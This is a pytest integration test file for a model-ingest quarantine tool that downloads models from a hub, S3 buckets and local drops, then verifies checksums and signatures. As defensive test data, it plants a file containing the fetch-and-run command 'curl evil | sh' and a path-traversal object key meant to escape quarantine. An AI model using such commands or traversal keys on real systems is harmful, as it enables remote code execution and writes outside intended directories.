"""Quarantine ingest against the local stack: the demo hub (olah), the S3 server (moto) and a local drop.

Each case runs the library stages the DAG wires together: resolve -> preflight
-> download into quarantine -> verify published checksums -> manifest.
"""

from __future__ import annotations

import hashlib
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from airlock.checksums import VerificationReport, verify_quarantine
from airlock.connections import S3Access
from airlock.errors import DownloadError, IntegrityError, QuarantineError
from airlock.manifest import Manifest, ModelRef, manifest_from_pass
from airlock.policy import policy_for
from airlock.quarantine import QuarantineArea, download, preflight
from airlock.sources import ResolvedSource, fetcher_for, resolve
from tests.conftest import require_env


def model_signing_root_digest(path: Path) -> str:
    from model_signing import hashing
    from model_signing._signing.signing import Payload

    return Payload(hashing.Config().use_file_serialization().hash(path)).statement.pb.subject[0].digest["sha256"]


def ingest(
    resolved: ResolvedSource, root: Path, tier: str, s3: S3Access | None = None
) -> tuple[QuarantineArea, Manifest]:
    policy = policy_for(tier)
    area = QuarantineArea.for_run(root, "model_ingest", f"test-{uuid.uuid4().hex[:8]}", resolved.uri)
    preflight(resolved, policy, area)
    download(resolved, area, fetcher_for(resolved, s3=s3), workers=4, timeout_s=120)
    verify_quarantine(resolved, area, policy)
    model = ModelRef(name=resolved.model_name, source=resolved.uri, revision=resolved.revision)
    return area, manifest_from_pass(area.files_dir, area.digests_file, model)


def report_of(area: QuarantineArea) -> VerificationReport:
    return VerificationReport.model_validate_json(area.report_file.read_text())


@pytest.fixture(scope="module")
def hub() -> str:
    return require_env("AIRLOCK_HUB_ENDPOINT")


# --------------------------------------------------------------------------- hub


def test_demo_model_is_downloaded_verified_and_hashed(hub: str, tmp_path: Path) -> None:
    resolved = resolve("hf://demo/tiny-gpt2", None, endpoint=hub)
    area, manifest = ingest(resolved, tmp_path, "high")
    report = report_of(area)
    assert report.verdict == "allow" and report.verified == len(resolved.files) and report.checked_against == ("hub",)
    assert manifest.root_digest == model_signing_root_digest(area.files_dir)
    assert manifest.model.revision == resolved.revision
    by_path = {f.path: f.published for f in manifest.files}
    assert by_path["model.safetensors"].by == "hub-lfs" and by_path["model.safetensors"].ok
    assert by_path["config.json"].by == "hub-git-blob" and by_path["config.json"].ok
    assert ".gitattributes" not in by_path  # verified against the hub, left out of the manifest like model_signing
    expected = ["digests.json", "files", "published-checksums.json", "vendor"]
    assert sorted(p.name for p in area.path.iterdir()) == expected


def test_an_lfs_object_altered_after_commit_blocks_naming_the_file(hub: str, tmp_path: Path) -> None:
    resolved = resolve("hf://demo/tampered-lfs", None, endpoint=hub)
    with pytest.raises(IntegrityError, match=r"blocked: 'model\.safetensors' mismatch \(hub-lfs"):
        ingest(resolved, tmp_path, "low")
    (area_dir,) = tmp_path.glob("*/*/*")
    report = VerificationReport.model_validate_json((area_dir / "published-checksums.json").read_text())
    assert [(p.path, p.problem) for p in report.problems] == [("model.safetensors", "mismatch")]


# --------------------------------------------------------------------------- s3 drops


@pytest.fixture(scope="module")
def s3() -> S3Access:
    return S3Access(endpoint=require_env("AIRLOCK_S3_ENDPOINT"), region="us-east-1", origin="test")


@pytest.fixture()
def bucket(s3: S3Access) -> Iterator[str]:
    client = s3.client()
    name = f"airlock-drop-{uuid.uuid4().hex[:12]}"
    client.create_bucket(Bucket=name)
    client.put_bucket_versioning(Bucket=name, VersioningConfiguration={"Status": "Enabled"})
    yield name
    for page in client.get_paginator("list_object_versions").paginate(Bucket=name):
        for item in page.get("Versions", []) + page.get("DeleteMarkers", []):
            client.delete_object(Bucket=name, Key=item["Key"], VersionId=item["VersionId"])
    client.delete_bucket(Bucket=name)


DROP = {
    "config.json": b'{"model_type": "gpt2"}',
    "weights/model.safetensors": bytes(range(256)) * 4096,
    "tokenizer.json": b'{"version": "1.0"}',
}


def sha256sums(files: dict[str, bytes]) -> bytes:
    return "".join(f"{hashlib.sha256(data).hexdigest()}  {path}\n" for path, data in sorted(files.items())).encode()


def put_drop(s3: S3Access, bucket: str, prefix: str, files: dict[str, bytes]) -> None:
    client = s3.client()
    for path, data in files.items():
        client.put_object(Bucket=bucket, Key=f"{prefix}{path}", Body=data)


def test_an_s3_drop_with_sha256sums_passes(s3: S3Access, bucket: str, tmp_path: Path) -> None:
    put_drop(s3, bucket, "acme/model-x/", {**DROP, "SHA256SUMS": sha256sums(DROP)})
    resolved = resolve(f"s3://{bucket}/acme/model-x", s3=s3)
    assert all(f.version_id and f.etag for f in resolved.files)
    area, manifest = ingest(resolved, tmp_path, "high", s3=s3)
    assert report_of(area).checked_against == ("SHA256SUMS",)
    assert (area.vendor_dir / "SHA256SUMS").exists() and not (area.files_dir / "SHA256SUMS").exists()
    assert [f.path for f in manifest.files] == sorted(DROP)
    assert all(f.published.by == "SHA256SUMS" and f.published.ok for f in manifest.files)
    assert manifest.root_digest == model_signing_root_digest(area.files_dir)


def test_an_s3_drop_with_one_flipped_byte_blocks(s3: S3Access, bucket: str, tmp_path: Path) -> None:
    flipped = bytearray(DROP["weights/model.safetensors"])
    flipped[1000] ^= 0x01
    altered = {**DROP, "weights/model.safetensors": bytes(flipped), "SHA256SUMS": sha256sums(DROP)}
    put_drop(s3, bucket, "acme/model-x/", altered)
    resolved = resolve(f"s3://{bucket}/acme/model-x", s3=s3)
    with pytest.raises(IntegrityError, match=r"'weights/model\.safetensors' mismatch \(SHA256SUMS"):
        ingest(resolved, tmp_path, "high", s3=s3)


def test_an_s3_drop_with_a_file_not_in_sha256sums_blocks(s3: S3Access, bucket: str, tmp_path: Path) -> None:
    put_drop(s3, bucket, "drop/", {**DROP, "run.sh": b"curl evil | sh", "SHA256SUMS": sha256sums(DROP)})
    with pytest.raises(IntegrityError, match=r"'run\.sh' unexpected \(SHA256SUMS"):
        ingest(resolve(f"s3://{bucket}/drop", s3=s3), tmp_path, "medium", s3=s3)


def test_an_s3_drop_without_vendor_manifest_is_refused_for_high_tiers(
    s3: S3Access, bucket: str, tmp_path: Path
) -> None:
    put_drop(s3, bucket, "drop/", DROP)
    resolved = resolve(f"s3://{bucket}/drop", s3=s3)
    with pytest.raises(QuarantineError, match="tier high requires a vendor manifest"):
        ingest(resolved, tmp_path, "high", s3=s3)
    area, _ = ingest(resolved, tmp_path, "low", s3=s3)
    assert "no vendor manifest" in report_of(area).notes[0]


def test_a_traversal_key_is_refused_without_writing_outside_quarantine(
    s3: S3Access, bucket: str, tmp_path: Path
) -> None:
    put_drop(s3, bucket, "drop/", {**DROP, "../../../../escaped.txt": b"pwned"})
    resolved = resolve(f"s3://{bucket}/drop", s3=s3)
    assert "../../../../escaped.txt" in {f.path for f in resolved.files}
    root = tmp_path / "quarantine"
    area = QuarantineArea.for_run(root, "model_ingest", "traversal", resolved.uri)
    with pytest.raises(QuarantineError, match=r"'\.\./\.\./\.\./\.\./escaped\.txt': '\.\.' segment"):
        preflight(resolved, policy_for("low"), area)
    # The downloader refuses on its own too, before creating anything.
    with pytest.raises(QuarantineError, match=r"escaped\.txt"):
        download(resolved, area, fetcher_for(resolved, s3=s3))
    assert not list(tmp_path.rglob("escaped.txt"))
    assert not root.exists()


# --------------------------------------------------------------------------- local drops


@pytest.fixture()
def local_drop(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.delenv("AIRLOCK_FILE_DROP_ROOTS", raising=False)
    monkeypatch.setenv("AIRLOCK_ENV", "development")
    root = tmp_path / "drops" / "model-y"
    for path, data in {**DROP, "SHA256SUMS": sha256sums(DROP)}.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(data)
    return root


def test_a_local_drop_is_copied_verified_and_hashed(local_drop: Path, tmp_path: Path) -> None:
    resolved = resolve(local_drop.as_uri())
    area, manifest = ingest(resolved, tmp_path / "quarantine", "critical")
    assert report_of(area).checked_against == ("drop-resolution", "SHA256SUMS")
    assert manifest.root_digest == model_signing_root_digest(area.files_dir)
    assert manifest.model.name == "model-y" and manifest.model.revision == resolved.revision


def test_a_local_drop_changed_after_pinning_blocks(local_drop: Path, tmp_path: Path) -> None:
    resolved = resolve(local_drop.as_uri())
    (local_drop / "config.json").write_bytes(b'{"model_type": "gpt3"}')  # same size, other bytes
    with pytest.raises(IntegrityError, match=r"'config\.json' mismatch \(drop-resolution"):
        ingest(resolved, tmp_path / "quarantine", "low")
    (local_drop / "config.json").write_bytes(b"{}")  # another size: the copy itself refuses it
    with pytest.raises(DownloadError, match=r"config\.json: no longer a regular file of 22 bytes"):
        ingest(resolved, tmp_path / "quarantine2", "low")


def test_a_local_drop_signed_with_model_signing_passes(local_drop: Path, tmp_path: Path) -> None:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from model_signing import signing

    (local_drop / "SHA256SUMS").unlink()
    key = tmp_path / "vendor-key.pem"
    key.write_bytes(
        ec.generate_private_key(ec.SECP256R1()).private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
    )
    signing.Config().use_elliptic_key_signer(private_key=key).sign(local_drop, local_drop / "model.sig")
    area, manifest = ingest(resolve(local_drop.as_uri()), tmp_path / "quarantine", "high")
    report = report_of(area)
    assert "model.sig" in report.checked_against and "signature not verified" in report.notes[0]
    assert all(f.published.by == "model.sig" for f in manifest.files)
